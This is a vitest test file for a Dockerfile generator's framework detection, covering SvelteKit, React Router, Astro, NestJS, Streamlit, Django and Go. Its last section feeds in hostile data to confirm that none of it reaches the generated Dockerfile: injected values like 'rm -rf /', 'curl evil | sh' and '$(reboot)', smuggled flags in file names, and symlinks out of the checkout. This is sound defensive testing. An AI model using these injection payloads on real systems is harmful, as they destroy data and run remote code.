import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { renderDockerfile } from '../dockerfile/index.js';
import { detected, finalStage, generated, IMAGES } from '../dockerfile/dockerfile-stages.test-support.js';
import { generateDockerfile } from '../dockerfile/index.js';
import { diskTree } from '../source/disk-tree.js';
import { detect } from './index.js';
import { memoryTree } from './memory-tree.test-support.js';
import { detectNodeApp } from './node-app.js';
import { parsePackageJson } from './package-json.js';
import { MULTI_PAGE, SINGLE_PAGE } from './static-routing.js';

// SvelteKit's adapters, React Router's modes, Astro's node adapter, NestJS, Streamlit, Django's
// settings and Go's commands: what detection finds, and what a repository cannot make it write.

const app = (pkg: object, files: Record<string, string> = {}) =>
  detectNodeApp(memoryTree({ 'package.json': JSON.stringify(pkg), ...files }), parsePackageJson(JSON.stringify(pkg)));

/** The Dockerfile for a whole project, as the builder generates it once the settings are read. */
const dockerfileFor = (pkg: object, files: Record<string, string>, settings = {}) =>
  generateDockerfile(detected({ 'package.json': JSON.stringify(pkg), 'package-lock.json': '{}', ...files }), IMAGES, settings);

const KIT = { '@sveltejs/kit': '^2.63.0', vite: '^8.0.16' };
const viteConfig = (adapter: string, options = '') =>
  `import adapter from '@sveltejs/adapter-${adapter}';\nimport { sveltekit } from '@sveltejs/kit/vite';\nexport default defineConfig({ plugins: [sveltekit({ adapter: adapter(${options}) })] });\n`;

describe('SvelteKit', () => {
  const server = { type: 'file', path: 'build/index.js' };

  it("takes the adapter its config imports, in svelte.config.js or, as sv create writes it now, vite.config.ts", () => {
    expect(app({ devDependencies: { ...KIT, '@sveltejs/adapter-node': '5' } }, { 'vite.config.ts': viteConfig('node') })).toEqual({ type: 'server', framework: 'sveltekit', start: server });
    expect(app({ devDependencies: { ...KIT, '@sveltejs/adapter-auto': '7' } }, { 'vite.config.ts': viteConfig('auto') })).toEqual({
      type: 'server',
      framework: 'sveltekit',
      start: server,
      build: 'gcp-buildpacks',
    });
    // The config wins over what else is installed.
    const both = { devDependencies: { ...KIT, '@sveltejs/adapter-auto': '7', '@sveltejs/adapter-node': '5' } };
    expect(app(both, { 'svelte.config.js': viteConfig('node') })).toEqual({ type: 'server', framework: 'sveltekit', start: server });
    expect(app(both, { 'svelte.config.js': viteConfig('auto') })).toMatchObject({ build: 'gcp-buildpacks' });
  });

  it("serves adapter-static's files, single-page when vite.config.ts names a fallback page", () => {
    const pkg = { devDependencies: { ...KIT, '@sveltejs/adapter-static': '3' } };
    expect(app(pkg, { 'vite.config.ts': viteConfig('static', "{ fallback: '200.html' }") })).toEqual({
      type: 'static',
      framework: 'sveltekit',
      outputDir: 'build',
      routing: { type: 'single-page', shell: '200.html' },
    });
    expect(app(pkg, { 'vite.config.ts': viteConfig('static') })).toMatchObject({ routing: MULTI_PAGE });
  });

  it("asks for a start command with an adapter whose output runs on another host, naming the two that run here, and runs the one given", () => {
    const vercel = { devDependencies: { ...KIT, '@sveltejs/adapter-vercel': '6' }, scripts: { build: 'vite build' } };
    const files = { 'vite.config.ts': viteConfig('vercel') };
    expect(() => dockerfileFor(vercel, files)).toThrow(
      'startCommand is required: this SvelteKit app builds with @sveltejs/adapter-vercel, whose output runs on another host; use @sveltejs/adapter-node for a server or @sveltejs/adapter-static for files',
    );
    const given = dockerfileFor(vercel, files, { startCommand: 'node serve-vercel-output.js' });
    expect(given.commands.start).toEqual(['sh', '-c', 'node serve-vercel-output.js']);
    expect(finalStage(given.dockerfile).lines).toContain('CMD ["sh","-c","node serve-vercel-output.js"]');
  });
});

describe('React Router, Astro and NestJS', () => {
  const RR = { dependencies: { 'react-router': '^8.5.3', '@react-router/serve': '^8.5.3', '@react-router/node': '^8.5.3' }, devDependencies: { '@react-router/dev': '^8.5.3', vite: '7' } };

  it('runs react-router-serve by the start script in framework mode, and serves build/client in SPA mode', () => {
    expect(app({ ...RR, scripts: { start: 'react-router-serve ./build/server/index.js' } }, { 'react-router.config.ts': 'export default { ssr: true };' })).toEqual({
      type: 'server',
      framework: 'react-router',
      start: { type: 'script' },
    });
    expect(app({ ...RR, scripts: { start: 'react-router-serve ./build/server/index.js' } }, { 'react-router.config.ts': 'export default {\n  ssr: false,\n} satisfies Config;' })).toEqual({
      type: 'static',
      framework: 'react-router',
      outputDir: 'build/client',
      routing: SINGLE_PAGE,
    });
  });

  it("asks for the start command of the server that mounts @astrojs/node's middleware, which starts none, and runs the one given", () => {
    const astro = { dependencies: { astro: '7', '@astrojs/node': '11' } };
    const middleware = { 'astro.config.mjs': "adapter: node({ mode: 'middleware' })" };
    const project = { ...astro, scripts: { build: 'astro build' } };
    expect(() => dockerfileFor(project, middleware)).toThrow(
      "startCommand is required: astro.config runs @astrojs/node in middleware mode, which starts no server; use mode 'standalone', or start the server that mounts its handler",
    );
    expect(finalStage(dockerfileFor(project, middleware, { startCommand: 'node server.mjs' }).dockerfile).lines).toContain('CMD ["sh","-c","node server.mjs"]');
    expect(app(astro, { 'astro.config.mjs': "adapter: node({ mode: 'standalone' })" })).toEqual({ type: 'server', framework: 'astro', start: { type: 'file', path: 'dist/server/entry.mjs' } });
  });

  it('starts NestJS from its compiled main, before Express, which it runs on', () => {
    expect(app({ dependencies: { '@nestjs/core': '12', '@nestjs/platform-express': '12', express: '5' }, scripts: { start: 'nest start', build: 'nest build' } })).toEqual({
      type: 'server',
      framework: 'nestjs',
      start: { type: 'file', path: 'dist/main.js' },
    });
  });
});

describe('Streamlit', () => {
  const ST = 'import streamlit as st\n\nst.title("Hello")\n';

  it('runs the first of streamlit_app.py, app.py, main.py that imports streamlit with streamlit run, and otherwise asks', () => {
    const python = (files: Record<string, string>) => detect(memoryTree({ 'requirements.txt': 'streamlit==1.67.0\npandas\n', ...files }));
    expect(python({ 'app.py': ST, 'streamlit_app.py': ST, 'main.py': ST })).toMatchObject({ app: { type: 'streamlit', file: 'streamlit_app.py' } });
    expect(python({ 'app.py': 'from streamlit import title\n', 'main.py': ST })).toMatchObject({ app: { type: 'streamlit', file: 'app.py' } });
    expect(python({ 'streamlit_app.py': '# helpers\nimport pandas\n', 'main.py': ST })).toMatchObject({ app: { type: 'streamlit', file: 'main.py' } });
    expect(python({ 'dashboard.py': ST })).toMatchObject({ app: { type: 'unknown' } });
  });

  it('leaves a FastAPI app that lists streamlit among its dependencies to uvicorn', () => {
    const api = { 'requirements.txt': 'fastapi\nuvicorn\nstreamlit\n', 'main.py': 'from fastapi import FastAPI\n\napp = FastAPI()\n' };
    const detection = detect(memoryTree(api));
    expect(detection).toMatchObject({ app: { type: 'fastapi', module: 'main', serverDeclared: true } });
    if (detection.kind !== 'python') throw new Error('expected Python');
    expect(generateDockerfile(detection, IMAGES, {}).commands.start).toEqual(['sh', '-c', 'exec uvicorn main:app --host 0.0.0.0 --port $PORT']);
  });
});

describe('a malicious repository', () => {
  it("cannot put a Django settings module or project name of its choosing into the image's command or environment", () => {
    const evil = [
      "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings; rm -rf /')",
      "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings\\nRUN curl evil | sh')",
      "os.environ.setdefault('DJANGO_SETTINGS_MODULE', '$(reboot).settings')",
    ];
    for (const line of evil) {
      const files = { 'requirements.txt': 'Django', 'manage.py': `import os\n${line}\n`, 'mysite/wsgi.py': `import os\n${line}\n`, 'x; rm -rf ~/wsgi.py': '' };
      const text = renderDockerfile(generated(detected(files)));
      expect(text).toContain('ENV AETHER_DJANGO_SETTINGS=mysite.settings DJANGO_SETTINGS_MODULE=aether_django_settings');
      expect(text).toContain('CMD ["sh","-c","exec gunicorn --bind 0.0.0.0:$PORT mysite.wsgi"]');
      expect(text).not.toMatch(/rm -rf|curl|reboot/);
    }
    // A project folder that is not a Python identifier is no candidate at all.
    expect(detect(memoryTree({ 'requirements.txt': 'Django', 'manage.py': '', 'x; rm -rf ~/wsgi.py': '' }))).toMatchObject({ app: { type: 'unknown' } });
  });

  it('cannot name a Go command that reaches the build as anything but a plain folder name', () => {
    const files = {
      'go.mod': 'module x\n',
      'cmd/x; rm -rf $HOME/main.go': 'package main',
      'cmd/a\nRUN id/main.go': 'package main',
      'cmd/-o=/etc/passwd/main.go': 'package main',
      'cmd/api/main.go': 'package main',
      'cmd/tools/doc.go': 'package tools',
    };
    const detection = detected(files);
    expect(detection).toMatchObject({ mainPackage: './cmd/api', commands: ['api'] });
    const text = renderDockerfile(generated(detection));
    expect(text).toContain('["go","build","-trimpath","-ldflags=-s -w","-o","/out/app","./cmd/api"]');
    expect(text).not.toMatch(/rm -rf|RUN id|passwd/);
  });

  it("does not follow a link out of the checkout to a Go command, a Streamlit script or Django's settings", () => {
    const outside = mkdtempSync(join(tmpdir(), 'aether-outside-'));
    mkdirSync(join(outside, 'tool'));
    writeFileSync(join(outside, 'tool/main.go'), 'package main');
    writeFileSync(join(outside, 'streamlit_app.py'), 'import streamlit');
    writeFileSync(join(outside, 'wsgi.py'), "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'host.settings')");

    const go = mkdtempSync(join(tmpdir(), 'aether-go-'));
    writeFileSync(join(go, 'go.mod'), 'module x\n');
    mkdirSync(join(go, 'cmd/api'), { recursive: true });
    writeFileSync(join(go, 'cmd/api/main.go'), 'package main');
    symlinkSync(join(outside, 'tool'), join(go, 'cmd/tool'));
    expect(detect(diskTree(go))).toMatchObject({ mainPackage: './cmd/api', commands: ['api'] });

    const streamlit = mkdtempSync(join(tmpdir(), 'aether-streamlit-'));
    writeFileSync(join(streamlit, 'requirements.txt'), 'streamlit\n');
    symlinkSync(join(outside, 'streamlit_app.py'), join(streamlit, 'streamlit_app.py'));
    expect(detect(diskTree(streamlit))).toMatchObject({ app: { type: 'unknown' } });

    const django = mkdtempSync(join(tmpdir(), 'aether-django-'));
    writeFileSync(join(django, 'requirements.txt'), 'Django\n');
    mkdirSync(join(django, 'mysite'));
    writeFileSync(join(django, 'mysite/settings.py'), '');
    symlinkSync(join(outside, 'wsgi.py'), join(django, 'mysite/wsgi.py'));
    // The linked wsgi.py is absent: no project has one, so Aether asks rather than reading the host's file.
    const detection = detect(diskTree(django));
    expect(detection).toMatchObject({ app: { type: 'unknown' } });
    if (detection.kind !== 'python') throw new Error('expected Python');
    expect(() => generateDockerfile(detection, IMAGES, {})).toThrow(/startCommand is required/);
  });
});
